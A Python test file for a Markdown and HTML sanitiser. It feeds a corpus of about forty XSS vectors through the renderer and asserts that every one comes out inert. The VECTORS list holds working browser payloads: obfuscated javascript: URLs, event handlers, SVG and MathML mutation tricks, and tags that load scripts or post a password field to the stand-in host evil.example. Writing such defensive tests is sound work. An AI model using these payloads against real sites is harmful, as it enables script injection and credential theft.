"""The Markdown sanitiser: a corpus of XSS vectors, every one rendered inert.

Each vector goes through :func:`render_markdown`; the output is parsed and
every tag, attribute and URL checked against what a note may hold, so a
vector that slipped through in a form the string checks did not foresee
still fails.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from app.core.sanitize import (
    ATTRIBUTES,
    TAGS,
    references_in,
    render_markdown,
    sanitise_html,
)

VECTORS = [
    # Script, in every way Markdown or HTML could carry it.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    # Event handlers.
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<div onmouseover="alert(1)">hover</div>',
    # javascript: in every spelling.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click](vbscript:msgbox(1))",
    # data: URLs.
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<data:text/html,<script>alert(1)</script>>",
    # SVG and MathML.
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Frames, objects, forms.
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    # Style and meta.
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    # Markdown links, autolinks and images.
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "![tracker](https://evil.example/pixel.png)",
    "<https://example.org/?q=<script>>",
    "[x](https://example.org)<!-- <script>alert(1)</script> -->",
    # Raw HTML that looks harmless.
    '<a href="https://example.org">plain</a>',
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_inert(html: str) -> None:
    parser = _Collect()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in TAGS, (tag, html)
        allowed = ATTRIBUTES.get(tag, set()) | (
            {"rel", "class"} if tag == "a" else set()
        )
        for name, value in attrs:
            assert name in allowed, (tag, name, html)
            if name == "href":
                scheme = urlsplit(value or "").scheme.lower()
                assert scheme in {"", "http", "https", "mailto"}, (value, html)
            if name == "rel":
                assert value == "noopener noreferrer"
            if name == "class":
                assert value == "govuk-link"
    # Shown as text, "javascript:" is harmless; as markup it is not.
    lowered = html.lower()
    for needle in ("<script", "<iframe", "<svg", "<style", "<img", "<form"):
        assert needle not in lowered, (needle, html)


def test_the_corpus_is_large_enough() -> None:
    assert len(VECTORS) >= 30


@pytest.mark.parametrize("vector", VECTORS)
def test_every_vector_renders_inert(vector: str) -> None:
    assert_inert(str(render_markdown(vector)))
    # And the same with reference links on, which adds tokens of its own.
    assert_inert(str(render_markdown(vector, lambda ref: "/evidence/x")))


@pytest.mark.parametrize("vector", VECTORS)
def test_the_sanitiser_alone_holds(vector: str) -> None:
    # The second lock on its own: raw HTML straight into nh3.
    assert_inert(sanitise_html(vector))


def test_typed_html_is_shown_as_text() -> None:
    assert str(render_markdown("<b>bold</b>")) == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_markdown_renders() -> None:
    html = str(render_markdown("**Strong**, _em_, `code`\n\n- one\n- two\n\n> said"))
    assert "<strong>Strong</strong>" in html and "<em>em</em>" in html
    assert "<code>code</code>" in html and "<li>one</li>" in html
    assert "<blockquote>" in html


def test_links_get_rel() -> None:
    html = str(render_markdown("[Estyn](https://www.estyn.gov.wales)"))
    assert html == (
        '<p><a href="https://www.estyn.gov.wales" rel="noopener noreferrer">'
        "Estyn</a></p>\n"
    )


def test_references_link_only_for_readers_who_may_see_them() -> None:
    visible = {"ERW-014": "/evidence/1"}
    html = str(render_markdown("See ERW-014 and CSC-002.", visible.get))
    assert '<a href="/evidence/1" class="govuk-link" rel="noopener noreferrer">' in html
    assert "ERW-014</a>" in html
    assert "CSC-002" in html and "CSC-002</a>" not in html
    # Never inside code or inside another link.
    assert "<a" not in str(render_markdown("`ERW-014`", visible.get))
    linked = str(render_markdown("[ERW-014](https://example.org)", visible.get))
    assert linked.count("<a ") == 1 and "/evidence/1" not in linked
    assert references_in("ERW-014, CSC-002 and ERW-014") == {"ERW-014", "CSC-002"}
